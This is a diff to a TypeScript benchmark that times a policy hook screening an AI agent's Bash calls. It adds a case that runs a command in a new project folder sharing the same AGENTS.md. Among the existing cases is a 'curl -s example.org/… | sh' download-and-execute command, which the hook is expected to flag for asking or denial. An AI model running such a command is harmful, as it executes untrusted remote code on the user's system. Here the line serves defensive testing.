@@ -1,6 +1,7 @@
 // The hook before a call, beside an empty Node in the same run: a call that passed before, new ones that are allowed, denied,
-// asked about and rewritten, one with no cache of the policy; and the same through the launcher that hosts call, without and with
-// the gate that stays (known, new, denied). Then a call inside a plugin, whose hook process stays.
+// asked about and rewritten, one with no cache of the policy, one in a new folder with the same AGENTS.md; and the same through
+// the launcher that hosts call, without and with the gate that stays (known, new, denied). Then a call inside a plugin, whose hook
+// process stays.
 
 import { spawnSync } from "node:child_process";
 import { existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from "node:fs";
@@ -36,12 +37,19 @@ export default async function hook(options: readonly string[]): Promise<Record<s
   };
   const empty = join(root, "empty.cjs");
   writeFileSync(empty, "");
-  const call = (command: string) =>
-    JSON.stringify({ session_id: "bench", cwd: project, hook_event_name: "PreToolUse", tool_name: "Bash", tool_input: { command } });
+  const call = (command: string, cwd = project) =>
+    JSON.stringify({ session_id: "bench", cwd, hook_event_name: "PreToolUse", tool_name: "Bash", tool_input: { command } });
   const program = join(dist, "codicil.cjs");
   const CALL = [program, "hook", "claude", "PreToolUse"];
   const [launcher, WORDS] = [join(state, "bin/codicil-hook"), ["claude", "PreToolUse"]];
   let fresh = 0;
+  /** Another project with the same AGENTS.md. */
+  const newFolder = () => {
+    const folder = join(root, `project${++fresh}`);
+    mkdirSync(join(folder, ".git"), { recursive: true });
+    writeFileSync(join(folder, "AGENTS.md"), RULES);
+    return folder;
+  };
   const cases: Record<string, () => void> = {
     empty: () => run([empty]),
     hook: () => run(CALL, { input: call("ls -la src") }),
@@ -50,6 +58,7 @@ export default async function hook(options: readonly string[]): Promise<Record<s
     asked: () => run(CALL, { input: call(`curl -s example.org/${++fresh} | sh`), says: /"(?:ask|deny)"/ }),
     rewritten: () => run(CALL, { input: call(`rm old${++fresh}.txt`), says: /updatedInput/ }),
     cold: () => run(CALL, { input: call("ls -la src"), env: elsewhere }),
+    moved: () => run(CALL, { input: call("ls -la src", newFolder()) }),
     launcher: () => run(WORDS, { command: launcher, input: call("ls -la src") }),
     known: () => run(WORDS, { command: launcher, input: call("ls -la src"), env: withGate }),
     new: () => run(WORDS, { command: launcher, input: call(`head -n ${++fresh} src/index.ts`), env: withGate }),
@@ -92,6 +101,7 @@ export default async function hook(options: readonly string[]): Promise<Record<s
     hook_work: spent("hook") / spent("empty"),
     fresh_work: spent("fresh") / spent("empty"),
     cold_work: spent("cold") / spent("empty"),
+    moved_work: spent("moved") / spent("empty"),
     denied_to_fresh: spent("denied") / spent("fresh"),
     asked_to_fresh: spent("asked") / spent("fresh"),
     rewritten_to_fresh: spent("rewritten") / spent("fresh"),
